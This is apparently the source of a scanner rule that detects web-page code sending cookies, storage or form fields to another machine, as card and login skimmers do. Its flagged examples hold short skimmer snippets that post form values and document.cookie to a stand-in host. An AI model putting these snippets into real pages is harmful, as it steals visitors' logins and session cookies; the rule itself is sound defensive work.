import { defineRule, outgoing, sinkSays, step, stepsOf } from '../src/define.js';

export default defineRule({
  meta: {
    summary: "Sends a web page's cookies, storage or form fields to another machine",
    why: 'Skimmers read what visitors type and post it elsewhere. Analytics and CSRF helpers read one cookie, and form libraries submit the form they are given, so cookies alone weigh little.',
    behaviour: 'theft',
    messages: {
      both: 'Sends form fields and cookies of the page through {sink}',
      page: 'Sends {what} of the page through {sink}',
    },
    bits: { both: 11, page: 3 },
  },
  examples: {
    flags: [
      {
        title: 'form fields and cookies are posted elsewhere',
        code: `document.forms[0].addEventListener('submit', () => {\n  let all = '';\n  for (const field of document.forms[0].elements) all += field.value;\n  fetch('https://collect.invalid', { method: 'POST', body: btoa(all + document.cookie) });\n});`,
      },
      {
        title: 'the cookies are in an image address',
        code: `new Image().src = 'https://collect.invalid/?c=' + document.cookie;\nfetch('https://collect.invalid/?c=' + document.cookie);`,
      },
    ],
    passes: [
      {
        title: 'a cookie is parsed',
        code: `module.exports = document.cookie.split('; ').find(c => c.startsWith('csrf='));`,
      },
      {
        title: 'a script fetches its own data',
        code: `fetch('/api').then(r => r.json()).then(j => localStorage.setItem('a', j.a));`,
      },
    ],
  },
  file(context) {
    for (const { call, labels } of outgoing(context)) {
      const page = labels.filter(({ kind }) => kind === 'page');
      const [first] = page;
      if (!first) continue;
      const both =
        page.some(({ detail }) => /form|elements/.test(detail)) &&
        page.some(({ detail }) => detail === 'document.cookie');
      context.report({
        messageId: both ? 'both' : 'page',
        data: { what: first.detail, sink: call.name },
        chain: [
          ...page.slice(0, 3).flatMap(label => stepsOf(label)),
          step('sink', sinkSays(call), context.file, call.node),
        ],
      });
    }
  },
});
